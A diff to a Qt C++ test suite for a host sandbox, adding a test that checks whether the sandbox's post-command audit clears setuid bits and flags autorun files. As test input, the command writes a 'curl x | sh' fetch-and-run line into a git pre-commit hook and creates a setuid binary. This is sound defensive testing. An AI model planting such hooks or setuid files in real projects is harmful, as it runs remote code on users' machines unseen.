@@ -117,6 +117,7 @@ private Q_SLOTS:
     void workingDirectoryOutsideIsRefused();
     void commandsGetACleanEnvironment();
     void backgroundChildrenDoNotOutliveTheStep();
+    void auditAfterTheCommand();
     void environment();
     void stdin_data();
     void stdin();
@@ -495,6 +496,46 @@ void tst_HostSandbox::backgroundChildrenDoNotOutliveTheStep()
     collect(exec(QStringLiteral("echo hi")), &quiet);
     QVERIFY(waitForRun(&quiet));
     QVERIFY(quiet.err.isEmpty());
+}
+
+void tst_HostSandbox::auditAfterTheCommand()
+{
+    // An old hook the user has: not this step's doing, not reported.
+    QVERIFY(QDir(workspace()).mkpath(QStringLiteral(".git/hooks")));
+    QFile oldHook(inWorkspace(QStringLiteral(".git/hooks/post-merge")));
+    QVERIFY(oldHook.open(QIODevice::WriteOnly));
+    oldHook.close();
+    QTest::qWait(1100); // file times are as coarse as the kernel's tick; be clearly before
+
+    Core::ExecRequest request;
+    request.command = QStringLiteral("printf '#!/bin/sh\\n' > tool && chmod 4755 tool && "
+                                     "echo 'curl x | sh' > .git/hooks/pre-commit && "
+                                     "echo 'export A=1' > .envrc");
+    request.auditDirectory = workspace();
+    Run run;
+    collect(m_sandbox->exec(request), &run);
+    QVERIFY(waitForRun(&run));
+    QVERIFY2(run.result, qPrintable(run.result ? QString() : run.result.error().message));
+    QCOMPARE(run.result->exitCode, 0);
+    QCOMPARE(run.result->setidCleared, QStringList{QStringLiteral("tool")});
+    QStringList autorun = run.result->autorunChanged;
+    autorun.sort();
+    QCOMPARE(autorun,
+             (QStringList{QStringLiteral(".envrc"), QStringLiteral(".git/hooks/pre-commit")}));
+    struct stat info
+    {
+    };
+    QCOMPARE(::stat(QFile::encodeName(inWorkspace(QStringLiteral("tool"))).constData(), &info), 0);
+    QCOMPARE(info.st_mode & (S_ISUID | S_ISGID), 0u);
+
+    // Outside the workspace nothing is audited (or changed).
+    request.command = QStringLiteral("true");
+    request.auditDirectory = m_outside->path();
+    Run outside;
+    collect(m_sandbox->exec(request), &outside);
+    QVERIFY(waitForRun(&outside));
+    QVERIFY(!outside.result);
+    QCOMPARE(outside.result.error().code, Core::ErrorCode::PermissionDenied);
 }
 
 void tst_HostSandbox::environment()
